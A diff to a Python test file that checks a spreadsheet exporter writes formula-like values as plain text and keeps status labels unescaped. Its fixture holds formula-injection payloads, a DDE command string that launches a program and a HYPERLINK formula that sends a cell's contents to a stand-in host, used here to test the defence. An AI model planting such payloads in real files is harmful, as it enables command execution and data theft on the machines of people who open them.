@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
+import zipfile
 from datetime import UTC, date, datetime, timedelta
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
 import openpyxl
+import pytest
 from sqlalchemy import func, select
 
+import bot.i18n
 from storage.db import Database
 from storage.events import record
 from storage.models import Commitment, Event, Person, Status, Unit
@@ -179,3 +183,79 @@ async def test_edited_export_imports_the_edit(db: Database, now: datetime) -> No
         added = await session.scalar(select(Commitment).where(Commitment.title == "Báo cáo kết quả khắc phục"))
         ttb = await session.scalar(select(Unit).where(Unit.code_key == "TTB"))
         assert added is not None and ttb is not None and added.unit_id == ttb.id and added.ref is None
+
+
+FORMULAS = {
+    "name": "=cmd|' /C calc'!A0",
+    "ref": "=R1",
+    "title": '=HYPERLINK("http://example.invalid/?"&A1,"Mở tài liệu")',
+    "legal_basis": "#N/A",
+    "source": "=1+1",
+    "note": "=2*3",
+}
+
+
+async def test_text_that_looks_like_a_formula_is_exported_as_text(db: Database, now: datetime) -> None:
+    units = io.StringIO()
+    csv.writer(units).writerows([UNIT_COLUMNS, ["VPB", FORMULAS["name"], ""]])
+    commitments = io.StringIO()
+    csv.writer(commitments).writerows(
+        [
+            COMMITMENT_COLUMNS,
+            [
+                FORMULAS["ref"],
+                "VPB",
+                FORMULAS["title"],
+                "internal",
+                "15/12/2026",
+                FORMULAS["legal_basis"],
+                FORMULAS["source"],
+                "",
+            ],
+        ]
+    )
+    sources = [("units.csv", units.getvalue().encode()), ("commitments.csv", commitments.getvalue().encode())]
+    assert (await import_sources(db, sources, now=now)).ok
+    async with db.session() as session:
+        commitment = await session.scalar(select(Commitment))
+        assert commitment is not None
+        record(session, at=now, action="note", commitment_id=commitment.id, note=FORMULAS["note"])
+
+    data = await export_bytes(db)
+
+    workbook = openpyxl.load_workbook(io.BytesIO(data))  # not read-only: it keeps each cell's type
+    cells = {
+        "name": workbook["units"]["B2"],
+        "ref": workbook["commitments"]["A2"],
+        "title": workbook["commitments"]["C2"],
+        "legal_basis": workbook["commitments"]["F2"],
+        "source": workbook["commitments"]["G2"],
+        "note": workbook["history"].cell(workbook["history"].max_row, 10),  # the last event
+    }
+    assert {name: (cell.value, cell.data_type) for name, cell in cells.items()} == {
+        name: (text, "s") for name, text in FORMULAS.items()
+    }
+    # No formula anywhere in the file (a cell written as a formula is stored as <f>…</f>).
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert not any(b"<f>" in archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    report = await import_sources(db, [("register.xlsx", data)], now=now + timedelta(hours=1))
+    assert report.ok and not report.changed, render_report(report, "en")
+
+
+async def test_export_status_labels_are_plain_text(
+    db: Database, now: datetime, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A translation may contain & < > (none does today): a spreadsheet cell shows it as written, not escaped.
+    real = bot.i18n.translations
+
+    class Ampersand:
+        def __init__(self, lang: str) -> None:
+            self.catalog = real(lang)
+
+        def gettext(self, msgid: str) -> str:
+            return "R&D <" + self.catalog.gettext(msgid)
+
+    await import_sources(db, sample_sources(), now=now)
+    monkeypatch.setattr(bot.i18n, "translations", Ampersand)
+    book = sheets(await export_bytes(db, lang="en"))
+    assert {row[8] for row in book["commitments"][1:]} == {"R&D <not started"}
